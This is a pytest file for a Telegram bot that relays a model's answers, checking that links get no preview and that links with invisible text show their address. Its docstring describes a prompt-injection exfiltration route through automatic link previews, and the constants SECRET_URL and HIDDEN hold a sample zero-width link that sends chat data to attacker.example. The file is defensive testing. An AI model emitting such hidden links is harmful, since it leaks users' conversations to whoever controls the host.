"""User stories: a link in an answer gets no link preview. Telegram's servers fetch a
message's first link for one at once, no one clicking; a model led by a page it read (or a
voice note) could put the chat's words into a link's address, even one whose words show
nothing (`[\u200b](https://...)`), and send them to whoever runs it. Such a link shows its
address instead."""

from __future__ import annotations

import pytest

from tests.bots.telegram.conftest import GROUP, PRIVATE_CHAT, Bot

CHATS = pytest.mark.parametrize("chat", [PRIVATE_CHAT, GROUP], ids=["private", "group-edits"])
# Long enough to be streamed: drafts in a private chat, a message and its edits in a group.
ANSWER = (
    "The guide covers it: read [the setup page](https://docs.example.com/setup) first, "
    "then https://docs.example.com/faq for the rest. " + " ".join(["Details follow."] * 30)
)
SECRET_URL = "https://attacker.example/c?d=the-secret-of-the-chat"
HIDDEN = f"Done.[\u200b]({SECRET_URL}) Anything else?"


def _ask(chat: int, text: str) -> str:
    return text if chat > 0 else f"@relay_test_bot {text}"


@CHATS
async def test_an_answer_with_links_shows_them_without_a_preview(bot: Bot, chat: int) -> None:
    tg = bot.telegram
    bot.openai.queue_reply(ANSWER)
    bot.openai.chunk_delay = 0.005
    await bot.deliver(tg.text_update(chat, _ask(chat, "where is the guide?")))

    (message,) = tg.chat_log(chat)
    links = [e["url"] for e in message.entities if e["type"] == "text_link"]
    assert links == ["https://docs.example.com/setup"], "the link is there, to click"
    assert message.link_preview is None
    assert tg.previews == [], "Telegram fetched no link of the answer"
    if chat == GROUP:
        assert message.edits, "streamed: sent, then edited"


@CHATS
async def test_a_link_whose_words_show_nothing_shows_its_address(bot: Bot, chat: int) -> None:
    tg = bot.telegram
    bot.openai.queue_reply(HIDDEN)
    await bot.deliver(tg.text_update(chat, _ask(chat, "summarise the page I pasted")))

    assert tg.texts(chat) == [f"Done.{SECRET_URL} Anything else?"]
    (message,) = tg.chat_log(chat)
    assert not [e for e in message.entities if e["type"] == "text_link"]
    assert tg.previews == []


async def test_an_answer_resent_as_plain_text_gets_no_preview_either(bot: Bot) -> None:
    tg = bot.telegram
    # Telegram refuses the formatted answer: it goes again as plain text, its address bare.
    tg.fail_next("sendMessage", description="Bad Request: can't parse entities: nope")
    bot.openai.queue_reply("See [the guide](https://docs.example.com/setup).")
    await bot.deliver(tg.text_update(PRIVATE_CHAT, "where is the guide?"))

    (message,) = tg.chat_log(PRIVATE_CHAT)
    assert message.parse_mode is None
    assert "https://docs.example.com/setup" in message.text
    assert tg.previews == []
